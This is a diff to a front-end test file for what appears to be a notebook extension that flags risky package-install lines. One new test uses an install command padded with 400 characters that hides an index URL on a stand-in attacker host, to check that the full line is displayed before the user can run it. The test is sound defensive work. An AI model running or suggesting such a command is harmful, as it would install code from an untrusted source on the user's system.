@@ -44,9 +44,12 @@ describe('the views', () => {
       outcome: 'x',
       message: HOSTILE,
       actions: [],
-      rewritable: true
+      rewritable: true,
+      instead: HOSTILE
     };
-    const actions = [{ label: HOSTILE, method: 'repair', params: {}, title: HOSTILE }];
+    const actions = [
+      { label: HOSTILE, method: 'repair', params: {}, title: HOSTILE, line: HOSTILE }
+    ];
     const finding = {
       code: HOSTILE,
       severity: 'warning' as const,
@@ -73,7 +76,8 @@ describe('the views', () => {
       label: 'Repair',
       method: 'repair',
       params: { ids: ['a'] },
-      title: 'Repair: x'
+      title: 'Repair: x',
+      line: ''
     };
     const finding = { severity: 'warning' as const, context: '', suggestions: [] };
     const findings = [
@@ -88,6 +92,23 @@ describe('the views', () => {
     expect(buttons[0].getAttribute('aria-label')).toBe('Repair: x');
     act(() => buttons[0].click());
     expect(props.model.act).toHaveBeenCalledWith(repair);
+  });
+
+  it('show all of a line above the button that carries it out or writes it', async () => {
+    const props = await view();
+    const line = `%safeinstall pandas ${'x'.repeat(400)} --index-url https://evil.example/simple`;
+    const action = { label: 'Install here', method: 'install', params: {}, title: '', line };
+    const item = { cell: 'a', line: 1, outcome: 'x', message: 'm', rewritable: true };
+    const wrong = [
+      { ...item, actions: [action], instead: line },
+      { ...item, actions: [], instead: 'another line' }
+    ];
+    const host = rendered(<Attention {...props} facts={facts({ wrong })} />);
+    const shown = [...host.querySelectorAll('[data-safeinstall=line] code')];
+    expect(shown.map(each => each.textContent)).toEqual([line, 'another line']);
+    const [first] = host.querySelectorAll('.si-Finding');
+    const order = [...first.querySelectorAll('code, .si-Button')].map(each => each.tagName);
+    expect(order[0]).toBe('CODE');
   });
 
   it('say the verdict in words beside the sign', async () => {
